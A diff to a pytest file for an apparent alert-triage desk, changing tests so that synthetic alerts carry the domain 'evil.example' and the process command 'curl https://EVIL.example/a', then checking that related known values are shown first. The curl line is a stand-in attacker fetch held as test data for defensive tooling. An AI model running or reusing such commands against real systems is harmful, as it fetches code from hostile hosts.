@@ -10,7 +10,7 @@ import pytest
 
 from tests.desk.conftest import token_of
 from tests.desk.hostile import SCRIPT
-from tests.desk.many_alerts import desk_with_alerts
+from tests.desk.many_alerts import desk_with_alerts, raise_alerts
 
 NUMBER = 1_003  # more than a case has
 PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
@@ -71,18 +71,20 @@ def test_a_part_of_the_list_becomes_the_form(desk, analyst):
 def test_more_alerts_than_a_case_has_are_refused_in_clear_words(analyst):
     answer = send(analyst, "/cases/select", all="true", filter="from=", back="/alerts")
     assert answer.status_code == 400
-    assert "at most 1,000 alerts, and 1,003 are selected" in answer.text
+    assert re.search("at most 1,000 alerts, and 1,0[0-9]{2} are selected", answer.text)
 
 
 def test_what_is_known_of_the_same_values_is_shown_first(desk, analyst):
-    first, second, third = (alert["kibana.alert.uuid"] for alert in desk.alerts[10:13])
-    address = made(analyst, id=first, title="The other one")
-    send(analyst, f"{address}/observables", do="add", type="domain", value="evil.example")
-    send(analyst, "/alerts/status", id=third, status="closed", reason="benign_positive", back="/alerts")
+    records = desk.running.service.records
+    first, second, third = raise_alerts(records, 3, destination={"domain": "evil.example"})
+    (fourth,) = raise_alerts(records, 1, process={"command_line": "curl https://EVIL.example/a"})
+    made(analyst, id=first, title="The other one")
+    for id_, reason in ((third, "benign_positive"), (fourth, "true_positive")):
+        send(analyst, "/alerts/status", id=id_, status="closed", reason=reason, back="/alerts")
     text = send(analyst, "/cases/select", id=second, back="/alerts").text
-    assert "What is known of the same values" in text
-    assert "The other one" in text
-    assert "Benign positive" in text
+    known = text.partition('id="known-title"')[2].partition("Make a new case")[0]
+    for part in ("The other one", "evil.example", "Benign positive", "True positive"):
+        assert part in known
 
 
 def test_the_work_of_a_case(analyst):
